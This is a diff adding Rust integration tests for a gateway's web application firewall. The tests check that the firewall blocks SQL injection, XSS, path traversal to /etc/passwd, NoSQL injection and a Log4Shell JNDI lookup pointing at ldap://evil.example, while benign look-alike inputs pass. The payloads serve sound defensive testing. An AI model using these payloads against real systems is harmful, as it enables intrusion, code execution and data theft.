@@ -1,0 +1,188 @@
+//! The built-in WAF over real sockets: attacks in the query, headers, cookies, JSON and
+//! form bodies are refused with their family's reason and the part named; benign
+//! look-alikes pass; bodies that cannot be inspected are refused; report mode passes and
+//! traces; routes without the WAF are not inspected.
+
+use crate::*;
+
+const ROUTES: &str = r#"
+[upstreams.main]
+targets = ["builtin:echo"]
+
+[[routes]]
+id = "guarded"
+path_prefix = "/guarded"
+upstream = "main"
+waf = true
+
+[[routes]]
+id = "plain"
+path_prefix = "/plain"
+upstream = "main"
+"#;
+
+async fn post(gw: &TestGateway, path: &str, content_type: &str, body: &str) -> reqwest::Response {
+    gw.http
+        .post(gw.url(path))
+        .header("content-type", content_type)
+        .body(body.to_owned())
+        .send()
+        .await
+        .unwrap()
+}
+
+#[tokio::test]
+async fn attacks_in_every_part_are_refused_with_the_part_named_and_look_alikes_pass() {
+    let gw = start(&format!("[server]\ndata_dir = \"DATA_DIR\"\n{ROUTES}")).await;
+    let get = |path: String, header: Option<(&'static str, &'static str)>| {
+        let mut request = gw.http.get(gw.url(&path));
+        if let Some((name, value)) = header {
+            request = request.header(name, value);
+        }
+        request.send()
+    };
+
+    // The query: refused, the part named, the value never echoed.
+    let resp = get("/guarded/items?id=1%27%20OR%20%271%27%3D%271".into(), None)
+        .await
+        .unwrap();
+    let body = problem(resp, 403, "waf.sqli").await;
+    assert!(body["detail"].as_str().unwrap().contains("`query:id`"), "{body}");
+    assert!(!body.to_string().contains("OR '1'"), "{body}");
+    let d = gw.decision(body["request_id"].as_str().unwrap()).await;
+    let entry = d.deciding_layer().unwrap();
+    assert_eq!(entry.rule_id.as_deref(), Some("sqli-libinjection"));
+    let note = entry.note.clone().unwrap();
+    assert!(
+        note.contains("at query:id") && note.contains('#') && !note.contains("'1'='1"),
+        "{note}"
+    );
+
+    let refused: Vec<(reqwest::Response, &str, &str)> = vec![
+        (
+            get(
+                "/guarded/x".into(),
+                Some(("user-agent", "${${lower:j}ndi:ldap://evil.example/a}")),
+            )
+            .await
+            .unwrap(),
+            "waf.jndi",
+            "header:user-agent",
+        ),
+        (
+            get(
+                "/guarded/x".into(),
+                Some(("cookie", "theme=%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
+            )
+            .await
+            .unwrap(),
+            "waf.xss",
+            "cookie:theme",
+        ),
+        (
+            get("/guarded/files?name=..%2F..%2Fetc%2Fpasswd".into(), None)
+                .await
+                .unwrap(),
+            "waf.traversal",
+            "query:name",
+        ),
+        (
+            post(
+                &gw,
+                "/guarded/x",
+                "application/json",
+                r#"{"items":[{"note":"<img src=x onerror=alert(1)>"}]}"#,
+            )
+            .await,
+            "waf.xss",
+            "body:/items/0/note",
+        ),
+        (
+            post(&gw, "/guarded/x", "application/json", r#"{"user":{"$ne":null}}"#).await,
+            "waf.nosql",
+            "body:/user/$ne",
+        ),
+        (
+            post(
+                &gw,
+                "/guarded/x",
+                "application/x-www-form-urlencoded",
+                "comment=1+UNION+SELECT+password+FROM+users--",
+            )
+            .await,
+            "waf.sqli",
+            "form:comment",
+        ),
+    ];
+    for (resp, reason, part) in refused {
+        let body = problem(resp, 403, reason).await;
+        assert!(
+            body["detail"].as_str().unwrap().contains(&format!("`{part}`")),
+            "{reason}: {body}"
+        );
+    }
+
+    // Look-alikes that naive rules refuse.
+    let benign = [
+        r#"{"name":"O'Brien","bio":"Please select a size from the list; drop by the shop"}"#,
+        r#"{"snippet":"```rust\nfn main() { println!(\"hi\"); }\n```","path":"/usr/local/bin/tool"}"#,
+        r#"{"token":"eyJhbGciOiJIUzI1NiJ9.e30.x","rule":"if x < 10 then show the banner","heart":"Fish & chips <3","ellipsis":"wait... what"}"#,
+    ];
+    for body in benign {
+        assert_eq!(
+            post(&gw, "/guarded/x", "application/json", body).await.status(),
+            200,
+            "{body}"
+        );
+    }
+    assert_eq!(
+        get("/guarded/search?q=Tom+%26+Jerry%3A+the+catalogue".into(), None)
+            .await
+            .unwrap()
+            .status(),
+        200
+    );
+
+    // Bodies that cannot be inspected are refused as such.
+    problem(
+        post(&gw, "/guarded/x", "application/json", "{not json").await,
+        400,
+        "waf.body_unparsable",
+    )
+    .await;
+    let deep = format!("{}1{}", "[".repeat(40), "]".repeat(40));
+    problem(
+        post(&gw, "/guarded/x", "application/json", &deep).await,
+        400,
+        "waf.body_too_deep",
+    )
+    .await;
+
+    // A route without the WAF is not inspected.
+    assert_eq!(
+        get("/plain/items?id=1%27%20OR%20%271%27%3D%271".into(), None)
+            .await
+            .unwrap()
+            .status(),
+        200
+    );
+}
+
+#[tokio::test]
+async fn report_mode_passes_and_traces_what_would_be_refused() {
+    let gw = start(&format!(
+        "[server]\ndata_dir = \"DATA_DIR\"\n[waf]\nmode = \"report\"\n{ROUTES}"
+    ))
+    .await;
+    let resp = post(&gw, "/guarded/x", "application/json", r#"{"q":"1' OR '1'='1"}"#).await;
+    assert_eq!(resp.status(), 200);
+    let id = resp.headers()["x-request-id"].to_str().unwrap().to_owned();
+    let d = gw.decision(&id).await;
+    let entry = d
+        .trace
+        .iter()
+        .find(|t| t.reason == Some(pinpoint_core::Reason::WafSqli))
+        .unwrap();
+    assert_eq!(entry.mark, pinpoint_core::Mark::WouldDeny);
+    assert!(entry.note.as_deref().unwrap().contains("body:/q"));
+}
